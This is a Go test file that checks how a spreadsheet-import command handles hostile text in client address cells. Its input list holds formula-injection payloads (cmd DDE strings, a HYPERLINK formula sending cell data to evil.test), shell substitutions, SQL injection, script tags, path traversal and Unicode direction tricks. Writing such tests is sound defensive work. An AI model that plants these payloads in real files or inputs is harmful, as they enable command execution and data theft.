package cli_test

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
)

// TestC2_HostileCells sends a sheet with hostile texts in the addresses of its clients. What arrives at the service is
// to the letter what the cell says, or the row is invalid; every row is accounted for once, and stderr has no text of a cell.
func TestC2_HostileCells(t *testing.T) {
	t.Parallel()
	const canary = "s3cr3t"
	var rows [][]any
	for n, text := range hostileTexts {
		row := lead(n+1, fmt.Sprint("A-", n+1))
		row[1], row[4] = canary+"\u202e", text.stored
		rows = append(rows, row)
	}
	s := newScene(t, stepThree, rows)
	p := s.mustRun(1, "--max-failures", "100%")
	for _, bad := range []string{"panic", "goroutine ", canary, "\x1b", "\u202e", "\x00", "evil"} {
		if strings.Contains(p.err, bad) {
			t.Errorf("stderr holds %q:\n%s", bad, p.err)
		}
	}
	if r := p.summary.Rows; r.Total != len(rows) || r.Done+r.Invalid != len(rows) || r.Invalid == 0 {
		t.Errorf("%d rows came to %+v", len(rows), r)
	}
	arrived := map[string]string{}
	for _, call := range p.calls {
		if call.Kind != "activity" || !strings.Contains(call.Body, reference[0].Attributes[0].ID) {
			continue
		}
		var body struct {
			Attributes []struct{ TemplateID, StringValue string }
		}
		must(t, json.Unmarshal([]byte(call.Body), &body))
		for _, a := range body.Attributes {
			if a.TemplateID == reference[0].Attributes[1].ID {
				arrived[call.Client] = a.StringValue
			}
		}
	}
	for i, row := range s.results() {
		text := hostileTexts[i]
		if got := arrived[row["E-mail"]]; got != text.arrives || (row["Import status"] == "invalid") != (row["Error"] != "") {
			t.Errorf("%q arrived as %q, want %q; its row is %q: %s", text.stored, got, text.arrives, row["Import status"], row["Error"])
		}
	}
	s.checkMadeOnce()
}

// TestHostileCellTooLong: a text of 40,000 characters is more than a cell can hold. The workbook is refused, and
// nothing is sent.
func TestHostileCellTooLong(t *testing.T) {
	t.Parallel()
	row := lead(1, "A-1")
	row[4] = strings.Repeat("x", 40_000)
	s := newScene(t, stepThree, [][]any{row})
	if p := s.mustRun(2); !strings.Contains(p.err, s.path("leads.xlsx")+": ") || !strings.Contains(p.err, "32,767") || len(p.posts()) > 0 {
		t.Errorf("stderr %q, sent %v", p.err, p.posts())
	}
}

// hostileText is a text as the file holds it and as it must arrive; "" where it must be refused or is nothing.
type hostileText struct{ stored, arrives string }

func same(s string) hostileText { return hostileText{s, s} }

// hostileTexts are what people, programs and attackers put into text cells.
var hostileTexts = []hostileText{
	same("1 High Street"), same("=1+1"), same("=cmd|' /C evil'!A0"), same("+1+cmd|evil"), same("-1+1"), same("@SUM(1+1)*cmd|evil"),
	same("=HYPERLINK(\"http://evil.test?x=\"&A1,\"click\")"), same("{{.Env}}"), same("${HOME}"), same("$(evil)"), same("`evil`"), same("%s%n%d"), same(`"},{"x":"`),
	same("\\\"},{\\\"x\\\":\\\""), same("</t></is></c><evil/>"), same("<script>evil()</script>"), same("'; DROP TABLE steps;--"), same("../../etc/evil"),
	same("{E-mail}"), same("{{E-mail}}"), same("E-mail | Name"), same("null"), same("true"), same("NaN"), same("00123"), same("1E5"), same("#N/A"),
	same("a\tb"), {"line one\r\nline two", "line one\nline two"}, {"line one\rline two", "line one\nline two"}, same("line one\nline two"),
	same("Zo\u00eb"), same("Zoe\u0308"), same("a\u200bb"), same("a\u202eb\u202c"), same("\u2066a\u2069b"), same("👩\u200d👩\u200d👧"), same("ﷺ"), same("\U0001F4A9 \U000E0001x"),
	{"  spaced out \u00a0", "spaced out"}, {"\u200bzero\u2060", "zero"}, {"_x0041_BC", "ABC"}, {"_x005F_x0041_", "_x0041_"},
	{"NUL_x0000_here", ""}, {"ESC_x001B_[31mred", ""}, {"BEL_x0007_", ""}, {"lost\ufffdcharacter", ""}, {"\u200b", ""}, {"   ", ""}, {"DEL\u007f", ""}, {"C1\u0085x", ""},
}
